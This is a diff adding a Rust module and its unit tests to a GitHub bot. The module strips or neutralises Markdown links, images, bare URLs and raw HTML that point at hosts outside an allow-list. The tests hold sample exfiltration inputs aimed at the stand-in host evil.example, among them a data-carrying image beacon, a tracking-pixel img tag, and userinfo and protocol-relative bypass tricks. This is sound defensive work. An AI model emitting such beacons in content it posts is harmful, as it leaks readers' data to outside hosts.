@@ -1,0 +1,396 @@
+//! Markdown on its way out. GitHub renders what the bot posts for every reader: an image
+//! whose URL carries data is a beacon that fires when the page is opened, and a link to an
+//! unknown host is a lure. Every image and link whose host is not allowed (by default the
+//! installation's GitHub host; the operator adds hosts) is shown as plain text naming the
+//! host, bare URLs to other hosts become code (which GitHub never links), and raw HTML is
+//! escaped — except a few attribute-free formatting tags and this product's own marks.
+//! Code blocks and code spans (suggestions among them) pass through unchanged.
+//!
+//! The structure comes from a CommonMark parser (`pulldown-cmark`), so nesting, reference
+//! links, autolinks and HTML blocks are read the way a renderer reads them; GitHub's
+//! extended autolinks (`https://…` and `www.…` in running text) are found separately.
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// The hosts outbound links and images may point at.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct LinkPolicy {
+    /// Lowercase host names; `*.example.com` also allows every subdomain of it.
+    hosts: Vec<String>,
+}
+
+impl LinkPolicy {
+    /// The installation's GitHub host (derived from the API URL: `api.github.com` is
+    /// `github.com`, with GitHub's own subdomains and user-content hosts; a GitHub
+    /// Enterprise server is its own host), plus `extra` from the operator.
+    pub fn for_api(api_url: &str, extra: &[String]) -> LinkPolicy {
+        let mut hosts = Vec::new();
+        let host = reqwest::Url::parse(api_url)
+            .ok()
+            .and_then(|u| u.host_str().map(str::to_ascii_lowercase));
+        match host.as_deref() {
+            Some("api.github.com") | Some("github.com") | None => {
+                for h in ["github.com", "*.github.com", "*.githubusercontent.com"] {
+                    hosts.push(h.to_string());
+                }
+            }
+            Some(h) => hosts.push(h.to_string()),
+        }
+        for e in extra {
+            let e = e.trim().trim_end_matches('.').to_ascii_lowercase();
+            if !e.is_empty() && !hosts.contains(&e) {
+                hosts.push(e);
+            }
+        }
+        LinkPolicy { hosts }
+    }
+
+    /// `EQUITR_LINK_HOSTS`: hosts separated by commas or spaces, `*.example.com` for a
+    /// domain and its subdomains.
+    pub fn parse_hosts(list: &str) -> Result<Vec<String>, String> {
+        let mut out = Vec::new();
+        for h in list
+            .split(|c: char| c == ',' || c.is_whitespace())
+            .filter(|h| !h.is_empty())
+        {
+            let bare = h.strip_prefix("*.").unwrap_or(h);
+            let ok = !bare.is_empty()
+                && bare
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.');
+            if !ok {
+                return Err(format!(
+                    "`{h}` is not a host name (write `docs.example.com` or `*.example.com`, without scheme or path)"
+                ));
+            }
+            out.push(h.to_ascii_lowercase());
+        }
+        Ok(out)
+    }
+
+    pub fn hosts(&self) -> &[String] {
+        &self.hosts
+    }
+
+    fn allows_host(&self, host: &str) -> bool {
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        self.hosts.iter().any(|h| match h.strip_prefix("*.") {
+            Some(base) => host == base || host.ends_with(&format!(".{base}")),
+            None => host == *h,
+        })
+    }
+
+    /// `None` when `dest` may be linked; otherwise what to show for it (its host, or the
+    /// scheme when it has none).
+    fn refuses(&self, dest: &str) -> Option<String> {
+        let dest = dest.trim();
+        let parsed = if dest.starts_with("//") {
+            reqwest::Url::parse(&format!("https:{dest}"))
+        } else if dest.len() > 4 && dest[..4].eq_ignore_ascii_case("www.") {
+            reqwest::Url::parse(&format!("https://{dest}"))
+        } else {
+            reqwest::Url::parse(dest)
+        };
+        match parsed {
+            // Relative to the page, which is on the GitHub host.
+            Err(url::ParseError::RelativeUrlWithoutBase) => {
+                // `\\evil.example` and `/\evil.example` are read as `//…` by browsers.
+                if dest.starts_with('\\') || dest.starts_with("/\\") {
+                    Some(dest.chars().take(40).collect())
+                } else {
+                    None
+                }
+            }
+            Err(_) => Some(dest.chars().take(40).collect()),
+            Ok(u) => match (u.scheme(), u.host_str()) {
+                ("http" | "https", Some(h)) if self.allows_host(h) => None,
+                ("http" | "https", Some(h)) => Some(h.to_string()),
+                (scheme, _) => Some(format!("{scheme}:")),
+            },
+        }
+    }
+}
+
+/// `text` with every link and image to a host `policy` does not allow neutralised and raw
+/// HTML escaped.
+pub fn neutralise(text: &str, policy: &LinkPolicy) -> String {
+    let mut out = String::with_capacity(text.len() + 64);
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_FOOTNOTES;
+    let mut cursor = 0usize;
+    // Links and images being dropped, innermost last: the note to write at their end.
+    let mut dropping: Vec<Option<String>> = Vec::new();
+    let mut in_code_block = false;
+    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
+        if in_code_block {
+            if let Event::End(TagEnd::CodeBlock) = event {
+                in_code_block = false;
+            }
+            continue;
+        }
+        match event {
+            Event::Start(Tag::CodeBlock(_)) => {
+                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
+                if dropping.is_empty() {
+                    out.push_str(&text[range.clone()]);
+                }
+                cursor = cursor.max(range.end);
+                in_code_block = true;
+            }
+            Event::Start(Tag::Link { ref dest_url, .. })
+            | Event::Start(Tag::Image { ref dest_url, .. }) => {
+                let image = matches!(event, Event::Start(Tag::Image { .. }));
+                let refused = policy.refuses(dest_url);
+                if dropping.is_empty() {
+                    if refused.is_none() {
+                        continue; // copied with the text around it
+                    }
+                    flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
+                    cursor = range.end;
+                }
+                dropping.push(refused.map(|host| {
+                    let host = code(&host);
+                    if image {
+                        format!(" (image from {host} removed)")
+                    } else {
+                        format!(" (link to {host} removed)")
+                    }
+                }));
+            }
+            Event::End(TagEnd::Link) | Event::End(TagEnd::Image) if !dropping.is_empty() => {
+                if let Some(Some(note)) = dropping.pop() {
+                    out.push_str(&note);
+                }
+            }
+            Event::Code(_) => {
+                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
+                out.push_str(&text[range.clone()]);
+                cursor = cursor.max(range.end);
+            }
+            Event::Html(_) | Event::InlineHtml(_) => {
+                flush(&mut out, text, &mut cursor, range.start, policy, &dropping);
+                out.push_str(&bare_urls(&escape_html(&text[range.clone()]), policy));
+                cursor = cursor.max(range.end);
+            }
+            Event::Text(_) | Event::SoftBreak | Event::HardBreak if !dropping.is_empty() => {
+                out.push_str(&bare_urls(&text[range], policy));
+            }
+            _ => {}
+        }
+    }
+    let end = text.len();
+    flush(&mut out, text, &mut cursor, end, policy, &[]);
+    out
+}
+
+/// Copies the running text between the last element handled and `to` (outside a link
+/// being dropped, whose text is copied piece by piece instead).
+fn flush(
+    out: &mut String,
+    text: &str,
+    cursor: &mut usize,
+    to: usize,
+    policy: &LinkPolicy,
+    dropping: &[Option<String>],
+) {
+    if dropping.is_empty() && to > *cursor {
+        out.push_str(&bare_urls(&text[*cursor..to], policy));
+    }
+    *cursor = (*cursor).max(to);
+}
+
+/// `s` as a code span that nothing in it can end early.
+fn code(s: &str) -> String {
+    let s = s.replace(['\n', '\r'], " ");
+    let mut ticks = 1;
+    while s.contains(&"`".repeat(ticks)) {
+        ticks += 1;
+    }
+    let fence = "`".repeat(ticks);
+    format!("{fence} {s} {fence}")
+}
+
+/// GitHub's extended autolinks in running text: a bare URL to a host that is not allowed
+/// becomes a code span.
+fn bare_urls(text: &str, policy: &LinkPolicy) -> String {
+    static URL: LazyLock<Regex> = LazyLock::new(|| {
+        // A literal pattern: it compiles (the unit tests run it).
+        Regex::new(r"(?i)\b(?:https?://|www\.)[^\s<>`]+").expect("a valid regex")
+    });
+    let mut out = String::with_capacity(text.len());
+    let mut last = 0;
+    for m in URL.find_iter(text) {
+        let mut url = m.as_str();
+        // Trailing punctuation is not part of an autolink.
+        while let Some(c) = url.chars().last() {
+            let unbalanced_paren = c == ')' && url.matches('(').count() < url.matches(')').count();
+            if "?!.,:;*_~'\"".contains(c) || unbalanced_paren {
+                url = &url[..url.len() - c.len_utf8()];
+            } else {
+                break;
+            }
+        }
+        if url.is_empty() || policy.refuses(url).is_none() {
+            continue;
+        }
+        out.push_str(&text[last..m.start()]);
+        out.push_str(&code(url));
+        last = m.start() + url.len();
+    }
+    out.push_str(&text[last..]);
+    out
+}
+
+/// Formatting tags without attributes that the bot's own text uses and that can carry
+/// nothing out.
+const SAFE_TAGS: &[&str] = &[
+    "details",
+    "summary",
+    "sub",
+    "sup",
+    "b",
+    "i",
+    "em",
+    "strong",
+    "code",
+    "kbd",
+    "p",
+    "ul",
+    "ol",
+    "li",
+    "pre",
+    "blockquote",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "s",
+    "del",
+];
+
+/// Raw HTML with every tag escaped, except [`SAFE_TAGS`] written without attributes,
+/// `<br>`/`<hr>`, and this product's own marks (`<!-- equitr:… -->`).
+fn escape_html(html: &str) -> String {
+    static KEEP: LazyLock<Regex> = LazyLock::new(|| {
+        // A literal pattern: it compiles (the unit tests run it).
+        Regex::new(r"^(?:<!-- equitr:[A-Za-z0-9_=:.,/+ -]*? -->|<(/?)([A-Za-z]+)>|<(?:br|hr) ?/?>)")
+            .expect("a valid regex")
+    });
+    let mut out = String::with_capacity(html.len() + 16);
+    let mut rest = html;
+    while let Some(i) = rest.find('<') {
+        out.push_str(&rest[..i]);
+        let here = &rest[i..];
+        if let Some(m) = KEEP.captures(here) {
+            let whole = m.get(0).map_or("", |g| g.as_str());
+            let safe = match m.get(2) {
+                Some(name) => SAFE_TAGS.contains(&name.as_str().to_ascii_lowercase().as_str()),
+                None => true,
+            };
+            if safe {
+                out.push_str(whole);
+                rest = &here[whole.len()..];
+                continue;
+            }
+        }
+        out.push_str("&lt;");
+        rest = &here[1..];
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn github() -> LinkPolicy {
+        LinkPolicy::for_api("https://api.github.com", &[])
+    }
+
+    #[test]
+    fn images_and_links_to_other_hosts_are_shown_as_text() {
+        let p = github();
+        assert_eq!(
+            neutralise("See ![x](https://evil.example/p.png?d=c2VjcmV0) now", &p),
+            "See x (image from ` evil.example ` removed) now"
+        );
+        assert_eq!(
+            neutralise("[docs](https://evil.example/login \"t\")", &p),
+            "docs (link to ` evil.example ` removed)"
+        );
+        // Reference links, autolinks and bare URLs.
+        assert_eq!(
+            neutralise("[a][r]\n\n[r]: https://evil.example/x", &p),
+            "a (link to ` evil.example ` removed)\n\n[r]: ` https://evil.example/x `"
+        );
+        assert_eq!(
+            neutralise("go <https://evil.example/a>.", &p),
+            "go ` https://evil.example/a ` (link to ` evil.example ` removed)."
+        );
+        assert_eq!(
+            neutralise("visit www.evil.example/a, or https://github.com/o/r.", &p),
+            "visit ` www.evil.example/a `, or https://github.com/o/r."
+        );
+        // Userinfo does not fool the host check; protocol-relative and other schemes.
+        assert!(neutralise("[x](https://github.com@evil.example/)", &p).contains("evil.example"));
+        assert!(neutralise("[x](//evil.example/)", &p).contains("link to ` evil.example `"));
+        assert!(neutralise("[x](data:image/png;base64,AAA)", &p).contains("` data: `"));
+        assert!(neutralise("[t][x]\n\n[x]: //evil.example/a", &p)
+            .starts_with("t (link to ` evil.example ` removed)"));
+        assert!(neutralise("[x](\\\\evil.example\\a)", &p).contains("removed"));
+        assert_eq!(
+            neutralise("| [x](https://evil.example) | ![i](https://e.example/i) |\n|---|---|", &p),
+            "| x (link to ` evil.example ` removed) | i (image from ` e.example ` removed) |\n|---|---|"
+        );
+        // A badge: an image inside a link, both elsewhere.
+        assert_eq!(
+            neutralise(
+                "[![b](https://img.example/b.svg)](https://evil.example)",
+                &p
+            ),
+            "b (image from ` img.example ` removed) (link to ` evil.example ` removed)"
+        );
+    }
+
+    #[test]
+    fn github_links_and_code_are_kept() {
+        let p = github();
+        let ok = "Fixes [#3](https://github.com/o/r/issues/3) and ![s](https://user-images.githubusercontent.com/1.png) [rel](../src/lib.rs)";
+        assert_eq!(neutralise(ok, &p), ok);
+        let code = "```suggestion\n<img src=\"https://evil.example/x\"> [a](https://evil.example)\n```\nand `<b onclick=x>` https://github.com/o/r";
+        assert_eq!(neutralise(code, &p), code);
+        let ghe = LinkPolicy::for_api("https://ghe.corp/api/v3", &["docs.corp".into()]);
+        assert_eq!(
+            neutralise("[a](https://ghe.corp/o/r) [b](https://docs.corp/x)", &ghe),
+            "[a](https://ghe.corp/o/r) [b](https://docs.corp/x)"
+        );
+        assert!(neutralise("[a](https://github.com/o/r)", &ghe).contains("removed"));
+    }
+
+    #[test]
+    fn raw_html_is_escaped_but_the_bots_own_tags_stay() {
+        let p = github();
+        assert_eq!(
+            neutralise("<img src=\"https://evil.example/t.gif\">", &p),
+            "&lt;img src=\"` https://evil.example/t.gif `\">"
+        );
+        assert_eq!(
+            neutralise("a <a href=x>b</a> c", &p),
+            "a &lt;a href=x>b&lt;/a> c"
+        );
+        let own = "Done.\n\n<details><summary>Cost</summary>\n\n| a |\n</details>\n\n<!-- equitr:job=3 -->";
+        assert_eq!(neutralise(own, &p), own);
+        assert_eq!(
+            neutralise("<details open>x</details>", &p),
+            "&lt;details open>x</details>"
+        );
+        assert_eq!(neutralise("<!-- hidden -->", &p), "&lt;!-- hidden -->");
+    }
+}
